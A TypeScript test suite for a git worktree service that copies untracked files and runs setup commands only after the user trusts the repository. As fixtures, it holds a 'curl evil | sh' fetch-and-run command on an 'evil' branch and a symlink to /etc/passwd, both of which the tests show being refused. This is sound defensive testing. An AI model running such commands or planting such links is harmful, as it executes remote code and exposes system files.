import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '@switchyard/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { GitService } from './service-kit.js';
import { TestRepo } from './test-repo.js';

const FILE = '.switchyard/worktree.json';

let dir: ReturnType<typeof tempDir>;
let repo: TestRepo;
let service: GitService;
const at = (name: string) => join(dir.path, name);
const made = (name: string) => join(at('worktrees/repo'), name);
const create = (branch: string, params: object = {}) =>
  service.call('worktree.create', { repo: repo.path, branch, ...params });
const trust = (params: object = {}) => service.call('worktree.trust', { repo: repo.path, ...params });
const setup = (branch: string) => service.call('worktree.setup', { repo: repo.path, branch });

beforeEach(async () => {
  dir = tempDir('sy-setup');
  repo = new TestRepo(at('repo'));
  repo.write('.gitignore', '.env*\nconfig/\n');
  repo.write(FILE, '{ "copy": [".env*", "config/**/*.json"], /* in a terminal */ "run": ["npm ci", "npm test"] }');
  repo.commit('setup');
  repo.write('.env', 'SECRET=1\n');
  repo.write('.env.local', 'LOCAL=1\n');
  repo.write('config/deep/a.json', '{}');
  repo.write('config/a.txt', 'not wanted');
  service = await GitService.start(dir.path);
});
afterEach(async () => {
  await service.stop();
  dir.remove();
});

describe('the setup of a new worktree', () => {
  it('is not done before the user has allowed it', async () => {
    const { setup: report } = await create('one');
    expect(report).toMatchObject({ state: 'untrusted', copied: 0, surface_id: null });
    expect(existsSync(join(made('one'), '.env'))).toBe(false);
    expect(service.workspaces.surfaces).toEqual([]);
    await expect(setup('one')).rejects.toMatchObject({ code: 'setup_not_trusted', data: { state: 'untrusted' } });
  });

  it('copies what git does not keep, and runs the commands in a terminal of the workspace', async () => {
    await trust();
    const { setup: report, workspace_id } = await create('one');
    expect(report).toMatchObject({ state: 'done', copied: 3, skipped: [], surface_ref: 'surface:2' });
    expect(readFileSync(join(made('one'), '.env'), 'utf8')).toBe('SECRET=1\n');
    expect(existsSync(join(made('one'), 'config/deep/a.json'))).toBe(true);
    expect(existsSync(join(made('one'), 'config/a.txt'))).toBe(false);
    expect(service.workspaces.surfaces).toEqual([
      {
        workspace_id,
        argv: ['/bin/sh', '-exc', 'npm ci\nnpm test'],
        cwd: made('one'),
        env: { SWITCHYARD_WORKTREE: made('one'), SWITCHYARD_MAIN_CHECKOUT: repo.path },
        remain_on_exit: true,
      },
    ]);
  });

  it('is left out on request, and can be done later', async () => {
    await trust();
    expect((await create('one', { setup: false })).setup).toMatchObject({ state: 'skipped', copied: 0 });
    expect((await setup('one')).setup).toMatchObject({ state: 'done', copied: 3 });
  });

  it('copies over nothing that is there', async () => {
    await trust();
    await create('one', { setup: false });
    writeFileSync(join(made('one'), '.env'), 'mine\n');
    const { setup: report } = await setup('one');
    expect(report).toMatchObject({ copied: 2, skipped: [{ path: '.env', reason: 'exists' }] });
    expect(readFileSync(join(made('one'), '.env'), 'utf8')).toBe('mine\n');
  });

  it('copies neither links nor through a link out of the worktree', async () => {
    symlinkSync('/etc/passwd', join(repo.path, '.env.link'));
    repo.git('checkout', '-q', '-b', 'trap');
    mkdirSync(at('outside'));
    repo.git('rm', '-q', '-r', '--cached', '--ignore-unmatch', 'config');
    repo.git('update-index', '--add', '--cacheinfo', `120000,${linkTo(at('outside'))},config`);
    repo.git('commit', '-q', '-m', 'config is a link');
    repo.git('checkout', '-q', '-f', 'main');
    repo.write('config/deep/a.json', '{}');
    await trust();
    const { setup: report } = await create('trap');
    expect(lstatSync(join(made('trap'), 'config')).isSymbolicLink()).toBe(true);
    expect(report.skipped).toEqual([
      { path: '.env.link', reason: 'not_a_file' },
      { path: 'config/deep/a.json', reason: 'outside' },
    ]);
    expect(existsSync(at('outside/deep'))).toBe(false);
  });

  it('is that of the main checkout, not what the branch brings along', async () => {
    await trust();
    repo.git('checkout', '-q', '-b', 'evil');
    repo.write(FILE, '{ "run": ["curl evil | sh"] }');
    repo.commit('evil');
    repo.git('checkout', '-q', 'main');
    await create('evil');
    expect(service.workspaces.surfaces.map(({ argv }) => argv?.at(-1))).toEqual(['npm ci\nnpm test']);
  });

  it('stays undone when the file has changed since it was allowed, until that is allowed, too', async () => {
    await trust();
    repo.write(FILE, '{ "run": ["make"] }');
    expect((await create('one')).setup).toMatchObject({ state: 'changed', surface_id: null });
    await expect(setup('one')).rejects.toMatchObject({ code: 'setup_not_trusted', data: { state: 'changed' } });
    expect(await trust()).toMatchObject({ state: 'trusted', copy: [], run: ['make'] });
    expect((await setup('one')).setup.state).toBe('done');
  });

  it('says what is wrong with a file that cannot be understood, and makes the worktree all the same', async () => {
    repo.write(FILE, '{ "runs": [] }');
    const detail = expect.stringContaining('`runs` is not known');
    expect(await trust()).toMatchObject({ state: 'invalid', detail });
    expect((await create('one')).setup).toMatchObject({ state: 'invalid', detail });
    await expect(setup('one')).rejects.toMatchObject({ code: 'invalid_state' });
  });

  it('needs a workspace', async () => {
    await trust();
    repo.git('worktree', 'add', '-q', '-b', 'closed', at('closed'));
    await expect(setup('closed')).rejects.toMatchObject({ code: 'invalid_state' });
  });
});

describe('worktree.trust', () => {
  it('shows what would be allowed without allowing it', async () => {
    const shown = { state: 'untrusted', copy: ['.env*', 'config/**/*.json'], run: ['npm ci', 'npm test'] };
    expect(await trust({ dry_run: true })).toMatchObject(shown);
    expect(await service.call('worktree.status', { repo: repo.path, branch: 'main' })).toMatchObject({
      setup: 'untrusted',
    });
  });

  it('outlives the service, and is taken back', async () => {
    expect(await trust()).toMatchObject({ state: 'trusted', repo: repo.path });
    await service.stop();
    service = await GitService.start(dir.path);
    expect(await trust({ dry_run: true })).toMatchObject({ state: 'trusted' });
    expect(await trust({ trusted: false })).toMatchObject({ state: 'untrusted' });
    expect(await trust({ dry_run: true })).toMatchObject({ state: 'untrusted' });
  });

  it('is one for all worktrees of a repository, and none for another', async () => {
    await trust();
    await create('one', { setup: false });
    expect(await trust({ dry_run: true, repo: made('one') })).toMatchObject({ state: 'trusted', repo: repo.path });
    const other = new TestRepo(at('other'));
    other.write(FILE, readFileSync(join(repo.path, FILE), 'utf8'));
    expect(await trust({ dry_run: true, repo: other.path })).toMatchObject({ state: 'untrusted' });
  });

  it('has nothing to allow where there is no file', async () => {
    const other = new TestRepo(at('other'));
    expect(await trust({ repo: other.path })).toMatchObject({ state: 'none', copy: [], run: [] });
  });
});

/** A blob that git takes for the target of a symbolic link. */
function linkTo(target: string): string {
  writeFileSync(at('link'), target);
  return repo.git('hash-object', '-w', at('link')).trim();
}
